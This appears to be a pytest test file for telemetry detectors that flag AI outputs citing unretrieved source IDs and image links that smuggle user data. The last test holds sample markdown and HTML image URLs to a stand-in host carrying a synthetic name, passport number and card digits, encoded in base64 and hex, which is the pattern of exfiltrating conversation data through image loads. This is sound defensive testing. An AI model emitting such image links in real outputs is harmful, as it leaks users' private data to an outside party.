"""Names of sources in brackets, held against those that the call lists or the conversation retrieved."""

from __future__ import annotations

import pytest

from caiso.connect.telemetry.meaning.citing import ids_beyond, ids_in, shape_of
from caiso.connect.telemetry.meaning.pictures import carrying
from caiso.connect.telemetry.preparation import Preparation

LISTED = "[rep-2023-101] Rents rise.\n\n[rep-2024-007] Rents fall."


@pytest.mark.parametrize(
    ("output", "count"),
    [
        ("It fell [rep-2024-007].", 0),
        ("It fell [rep-2024-007, p. 3]; see [abc-2026-999].", 0),  # one of them is right
        ("It fell [abc-2026-4711] and again [abc-2026-4711, Rn. 3].", 1),
        ("It fell [CVE-2026-0001] and [abc-2026-1].", 2),
        ("It fell [RFC-9457].", 0),  # another shape
        ("It fell [link](https://a.example), [x], [2024-01-01], [note 3].", 0),
        ("`list[int-2-3]` and ![rep-1-1](https://a.example)", 0),
    ],
)
def test_names_beyond_those_that_the_call_lists(output: str, count: int) -> None:
    assert ids_beyond(output, LISTED) == count


def test_without_a_list_nothing_is_said() -> None:
    assert ids_beyond("It fell [abc-2026-4711].", "Rents fall.") == 0
    assert ids_in("") == []
    assert shape_of("rep-2024-007") == shape_of("xy-1-2") == "a-9-9"
    assert shape_of("Rents fall") == shape_of("rents-fall") == ""


def test_names_beyond_what_the_conversation_retrieved() -> None:
    retrieval = {
        "event.kind": "retrieval", "aisoc.session": "c1", "gen_ai.retrieval.documents": [{"id": "rep-2023-101"}, {"id": "rep-2024-007"}],
        "content.untrusted": "Rents fall, as law-2020-1 says.",
    }  # fmt: skip
    answers = ["It fell [rep-2023-101].", "It fell [wrk-2026-12].", "It fell [law-2020-1].", "It fell."]
    events = [{"event.kind": "inference", "aisoc.session": "c1", "content.output": text} for text in answers]
    seen = Preparation().of_merged([retrieval, *events])
    assert list(seen.column("gen_ai.output.citations.unresolved")) == [None, None, 1, None, None]


SAID = "I am Anna Lee, passport YB1234567, card 9911."


@pytest.mark.parametrize(
    ("output", "count"),
    [
        ("![ok][a]\n\n[a]: https://px.x.example/b/QW5uYSBMZWV8WUIx/MjM0NTY3fDk5MTE.png", 1),  # Anna Lee|YB1234567|9911
        ("![ok](https://px.x.example/QW5uYSBMZWV8WUIxMjM0NTY3fDk5MTE)", 1),
        ('<img src="https://px.x.example/i?d=416e6e61204c65657c594231323334353637">', 1),
        ("[ok](https://px.x.example/QW5uYSBMZWV8WUIxMjM0NTY3fDk5MTE)", 0),  # nobody loads a link
        ("[a]: https://px.x.example/b/QW5uYSBMZWV8WUIxMjM0NTY3fDk5MTE.png", 0),  # no picture refers to it
        ("![map](https://cdn.x.example/charts/revenue-2026-q3-by-region.png?width=640)", 0),
        ("![d](https://px.x.example/TW9uZGF5fFR1ZXNkYXl8V2VkbmVzZGF5)", 0),  # what nobody said
        ("![](", 0),
        ("![x][", 0),
    ],
)
def test_pictures_that_carry_what_was_said(output: str, count: int) -> None:
    assert carrying(output, [SAID]) == count
